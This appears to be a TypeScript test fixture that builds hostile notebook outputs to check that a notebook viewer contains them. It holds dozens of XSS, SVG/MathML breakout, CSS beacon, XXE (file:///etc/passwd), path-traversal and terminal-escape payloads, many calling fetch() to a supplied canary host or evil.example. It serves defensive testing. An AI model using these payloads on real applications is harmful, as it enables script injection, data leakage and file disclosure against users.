/** What a hostile notebook may hold: texts for every place that shows one, and cells made of what no notebook program wrote. */

/** Where a text is put: both as a saved output and, when the cell is run, as a new one. */
export type Place = 'html' | 'svg' | 'note' | 'text' | 'error' | 'plot' | 'value';

export interface Payload {
  readonly name: string;
  readonly places: readonly Place[];
  readonly text: string;
}

/** Each calls `js`, or asks `at` for something of its own name, if anything of it works. */
export function payloads(at: string): readonly Payload[] {
  const js = `globalThis.escaped=1;try{parent.escaped=1}catch{}fetch('${at}/js')`;
  const texts = (places: readonly Place[], named: Record<string, string>): Payload[] =>
    Object.entries(named).map(([name, text]) => ({ name, places, text }));
  return [
    ...texts(['html', 'note', 'plot', 'error'], {
      'a script': `<script>${js}</script><script src="${at}/script"></script><script type="module" src="${at}/module"></script>`,
      'a handler of an image': `<img src="${at}/img" onerror="${js}"><img src=x onerror="${js}">`,
      'a link to a command': `<a href="command:workbench.action.terminal.new?%5B%22id%22%5D">c</a><a href="vscode://file/etc/passwd">v</a>`,
      'links that are programs': `<a href="javascript:${js}">j</a><a href=" &#1;java&#10;script:${js}">k</a><a href="vbscript:msgbox(1)">v</a><a href="data:text/html,<script>${js}</script>">d</a>`,
      'links out of the window': `<a href="${at}/top" target="_top">t</a><a href="//evil.example" target="_blank" download ping="${at}/ping">b</a>`,
      'attributes that other notebooks act on': `<button data-commandlinker-command="terminal:create-new" data-commandlinker-args='{}'>b</button><div data-jupyter-action="run-all" data-vscode-context='{"command":"x"}' onclick="${js}">d</div>`,
    }),
    ...texts(['html', 'note'], {
      'a refresh': `<meta http-equiv="refresh" content="0;url=${at}/refresh"><meta http-equiv="refresh" content="0;javascript:${js}">`,
      'a policy of its own': `<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="${at}/policy">`,
      'a base': `<base href="${at}/"><img src="base.png"><a href="x">y</a>`,
      'a frame': `<iframe src="${at}/frame"></iframe><frameset><frame src="${at}/inner"></frameset>`,
      'a frame with its document': `<iframe srcdoc="<script>parent.parent.escaped=1;${js}</script><img src='${at}/srcdoc'>"></iframe>`,
      'a frame that is a program': `<iframe src="javascript:${js}"></iframe><iframe src="data:text/html,<script>${js}</script>"></iframe>`,
      'an object': `<object data="${at}/object"><embed src="${at}/embed"></object><applet codebase="${at}" code="a"></applet>`,
      'sheets from elsewhere': `<link rel="stylesheet" href="${at}/link"><style>@import url(${at}/import); @import "${at}/text";</style>`,
      'a look ahead': `<link rel="preconnect" href="${at}"><link rel="dns-prefetch" href="${at}"><link rel="prefetch" href="${at}/prefetch"><link rel="modulepreload" href="${at}/ahead"><script type="speculationrules">{"prefetch":[{"urls":["${at}/rules"]}]}</script>`,
      'addresses in styles': `<p style="background:url(${at}/style);cursor:url(${at}/cursor),auto;list-style:url('${at}/list')">s</p><style>body{background:image-set("${at}/set" 1x)} @font-face{font-family:f;src:url(${at}/font)} p{font-family:f} p::after{content:url(${at}/content)}</style>`,
      'programs in styles': `<p style="width:expression(${js});behavior:url(${at}/htc);-moz-binding:url(${at}/xbl)">s</p>`,
      media: `<video src="${at}/video" poster="${at}/poster" autoplay><track src="${at}/track" default></video><audio autoplay><source src="${at}/audio" onerror="${js}"></audio>`,
      'sets of sources': `<img srcset="${at}/srcset 1x"><picture><source srcset="${at}/picture"><img></picture><input type="image" src="${at}/input"><body background="${at}/body"><table background="${at}/table">`,
      'a form that sends itself': `<form action="${at}/form" id="f"><input autofocus onfocus="f.submit()"></form><button form="f" formaction="javascript:${js}">b</button><isindex action="${at}/isindex">`,
      'handlers without a click': `<details open ontoggle="${js}"></details><input autofocus onfocus="${js}"><marquee onstart="${js}">m</marquee><body onload="${js}" onpageshow="${js}">`,
      'a handler of an animation': `<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart="${js}" onanimationend="${js}">a</p><p style="content-visibility:auto" oncontentvisibilityautostatechange="${js}">c</p>`,
      'an invoker': `<button popovertarget="p" commandfor="p" command="show-popover">b</button><div id="p" popover onbeforetoggle="${js}">p</div>`,
      'a map': `<img usemap="#m" src="x"><map name="m"><area shape="default" href="javascript:${js}"></map>`,
      'a shadow': `<div><template shadowrootmode="open"><img src="${at}/shadow" onerror="${js}"></template></div><template><script>${js}</script></template>`,
      'what parses otherwise a second time': `<noscript><p title="</noscript><img src=${at}/noscript onerror=${js}>"></noscript><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${at}/mglyph onerror=${js}&gt;">`,
      'what ends what is around it': `</div></style></title></textarea></script></iframe>--><script>${js}</script><!--`,
      'names that cover the document’s own': `<img name="body"><img name="documentElement"><img name="querySelectorAll"><img name="adoptNode"><img name="createElement"><a id="host"></a><a id="shell"></a><img name="location">`,
      'elements of the future': `<portal src="${at}/portal"></portal><fencedframe src="${at}/fenced"></fencedframe><x-y is="z" onconnected="${js}"></x-y><img src="${at}/lazy" loading="lazy" attributionsrc="${at}/attribution">`,
      'mathematics that leads away': `<math href="javascript:${js}"><mtext href="${at}/mtext">m</mtext><maction actiontype="statusline#${at}" href="javascript:${js}">c</maction></math>`,
      'a note in mathematics': `<math><annotation-xml encoding="text/html"><iframe src="${at}/annotation"></iframe><img src=x onerror="${js}"></annotation-xml><semantics><annotation-xml encoding="application/xhtml+xml"><script>${js}</script></annotation-xml></semantics></math>`,
    }),
    ...texts(['html', 'svg', 'note'], {
      'a script in a drawing': `<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"><script>${js}</script><script href="${at}/svgscript"/></svg>`,
      'a link that moves': `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:${js}"><animate attributeName="href" values="javascript:${js}" from="${at}/animate" begin="0s"/><set attributeName="href" to="javascript:${js}"/><text y="20">x</text></a></svg>`,
      'pictures of a drawing': `<svg><image href="${at}/image"/><image xlink:href="${at}/ximage"/><feImage href="${at}/fe"/><use href="${at}/use#a"/><use href="data:image/svg+xml,<svg id='a'><script>${js}</script></svg>#a"/></svg>`,
      'another language inside a drawing': `<svg><foreignObject><iframe src="${at}/foreign"></iframe><body onload="${js}"><img src="${at}/fimg" onerror="${js}"></body></foreignObject><handler>${js}</handler></svg>`,
      'styles of a drawing': `<svg><style>@import url(${at}/svgimport); rect{fill:url(${at}/fill#a);filter:url(${at}/filter#b);mask:url(${at}/mask#c)}</style><rect width="9" height="9" clip-path="url(${at}/clip#d)"/></svg>`,
      'a drawing of entities': `<?xml version="1.0"?><?xml-stylesheet href="${at}/sheet"?><!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b "&a;&a;&a;">]><svg><text>&a;&b;</text></svg>`,
      'a drawing without end': '<svg><g>'.repeat(600),
    }),
    ...texts(['note', 'html', 'text', 'value'], {
      'links of Markdown': `[a](javascript:${js.replace(/[()]/g, '')}) [b](data:text/html,x) [c](vbscript:x) [d](command:x) [e](${at}/link) <javascript:alert(1)> <${at}/auto> ${at}/bare`,
      'pictures of Markdown': `![a](${at}/mdimg) ![b](javascript:x) ![c](data:image/svg+xml,<svg/onload=x>) ![d][r]\n\n[r]: ${at}/reference "x\\" onerror=\\"y"`,
      'a link out of its section': `[x](#" onclick="${js}) [y](#javascript:x) [z](#/../../${at})`,
      'directives of MyST': `:::{iframe} ${at}/mystframe\n:::\n\n:::{raw} html\n<script>${js}</script>\n:::\n\n:::{image} ${at}/mystimage\n:::\n\n:::{figure} ${at}/figure\n:::\n\n:::{include} /etc/passwd\n:::\n\n:::{literalinclude} ${at}/literal\n:::\n\n:::{embed} #x\n:::`,
      'roles of MyST': `{eval}\`fetch('${at}/eval')\` {raw:html}\`<img src=x onerror="${js}">\` {download}\`${at}/download\` {cite}\`10.1/x\``,
      'a note of another kind': `+++ {"kind":"x"}\n\n---\nbanner: ${at}/banner\nexports: [{format: pdf}]\n---\n\n[^1]: <img src="${at}/foot">`,
      'a quotation without end': `${'> '.repeat(400)}x`,
      'a link of TeX': `$\\href{javascript:alert(1)}{x} \\url{${at}/url}$ $$\\includegraphics[width=1em]{${at}/tex}$$`,
      'markup of TeX': `$\\htmlId{x}{a}\\htmlClass{y}{b}\\htmlStyle{background:url(${at}/htmlstyle)}{c}\\htmlData{a=b}{d}$`,
      'TeX that breaks out': `$\\text{</annotation></semantics></math><img src=${at}/breakout onerror=alert(1)>}$ $\\unicode{x}<script>$`,
      'TeX without end': `$\\def\\a{\\a\\a}\\a$ $$\\gdef\\b#1{\\b{#1#1}}\\b x$$`,
    }),
    ...texts(['text', 'error', 'value', 'plot', 'note'], {
      'a link of a terminal': `\u001b]8;;${at}/osc\u0007press\u001b]8;;\u0007 \u001b]8;;javascript:alert(1)\u001b\\x\u001b]8;;\u001b\\`,
      'orders to a terminal': `\u001b]52;c;YQ==\u0007\u001b]0;title\u0007\u001b[2J\u001b[6n\u001bP$q\u001b\\\u009b31m\u001b_x\u001b\\`,
      'a terminal’s text that is markup': `\u001b[31m<img src=${at}/ansi onerror="${js}">\u001b[0m`,
      'text that reads backwards': '\u202egnp.exe\u2066\u200b\u200d\ufeff\u2028\u2029\u0000',
      'text that is no text': '\ud800\udfff\udc00 \uffff',
    }),
    ...texts(['plot', 'value'], {
      'a link in a label': `<a href="${at}/label" target="_top">x</a><a href='javascript:${js}'>y</a>`,
      'styles in a label': `<span style="background:url(${at}/span);color:red">x</span><sup>1</sup><b onclick="${js}">b</b>`,
      'a formula in a label': `$\\href{javascript:alert(1)}{x}$%{x:${'9'.repeat(20)}f}%{customdata[0]}<extra>x</extra>`,
      'a name of every object': '__proto__',
      'another name of every object': 'constructor',
    }),
  ];
}

type Json = null | boolean | number | string | readonly Json[] | { readonly [key: string]: Json };

/** Fields of code cells that say something else than a notebook's own program would. */
export function strangeCells(at: string): Readonly<Record<string, Json>> {
  const js = `globalThis.escaped=1;fetch('${at}/strange')`;
  const markup = `<img src="${at}/strange" onerror="${js}"><script>${js}</script>`;
  const shown = (data: Json, metadata: Json = {}): Json => ({
    outputs: [{ output_type: 'display_data', data, metadata }],
  });
  return {
    'an error with a MIME type': {
      outputs: [
        {
          output_type: 'error',
          ename: markup,
          evalue: markup,
          traceback: [markup],
          data: { 'text/html': markup },
        },
        {
          output_type: 'execute_result',
          data: { 'application/vnd.code.notebook.error': { name: markup, message: markup, stack: markup } },
        },
      ],
    },
    'a program as an output': shown({
      'application/javascript': js,
      'text/javascript': js,
      'application/ecmascript': js,
    }),
    'markup that says it is trusted': {
      ...(shown({ 'text/html': [markup] }, { 'text/html': { isolated: false } }) as object),
      metadata: { trusted: true },
    },
    'a widget': shown({
      'application/vnd.jupyter.widget-view+json': { model_id: '../../x', version_major: 2 },
      'text/plain': markup,
    }),
    'drawings by specification': shown({
      'application/vnd.plotly.v1+json': {
        data: [{ type: 'scatter', text: markup }],
        layout: { images: [{ source: `${at}/plotly` }] },
      },
      'application/vnd.vega.v5+json': { data: [{ url: `${at}/vega` }], signals: [{ update: js }] },
    }),
    'pictures that are markup': shown({
      'image/png': markup,
      'image/jpeg': `${at}/jpeg`,
      'image/svg+xml': [`<svg><script>${js}</script>`, '</svg>'],
    }),
    'a paper': shown({
      'application/pdf': `${at}/pdf`,
      'text/latex': `\\href{javascript:${js}}{x}`,
      'text/markdown': markup,
    }),
    'a type that is markup': shown({ [markup]: markup, __proto__x: 1, 'text/plain': { toString: markup } }),
    'outputs that are none': {
      outputs: [null, 7, 'x', [], { output_type: markup }, { output_type: 'stream', text: { length: 9 } }],
    },
    'one output for a list': { outputs: { length: 1, 0: markup } },
    attachments: {
      attachments: {
        'x.svg': { 'image/svg+xml': `<svg onload="${js}"/>` },
        '../../x': { 'text/html': markup },
      },
    },
    'metadata of its own': {
      metadata: {
        tags: [markup],
        name: markup,
        jupyter: { source_hidden: true },
        vscode: { languageId: markup },
        collapsed: markup,
      },
      execution_count: markup,
    },
    'a run that was never made': {
      metadata: {
        tapedeck: {
          run: { status: 'running', outputs: [{ kind: 'markup', html: markup, text: '' }], elapsedMs: -1 },
          hintsUsed: 1e308,
          own: markup,
        },
      },
    },
    'a run of other kinds': {
      metadata: {
        tapedeck: {
          run: {
            status: 'done',
            elapsedMs: 1,
            outputs: [
              { kind: 'iframe', src: at },
              { kind: 'text', text: { html: markup } },
            ],
          },
        },
      },
    },
    'outputs that lie elsewhere': {
      metadata: {
        tapedeck: {
          run: {
            status: 'done',
            elapsedMs: 1,
            outputs: [],
            side: '../../../../etc/passwd',
            outputsIn: '/etc/passwd',
          },
        },
      },
    },
  };
}
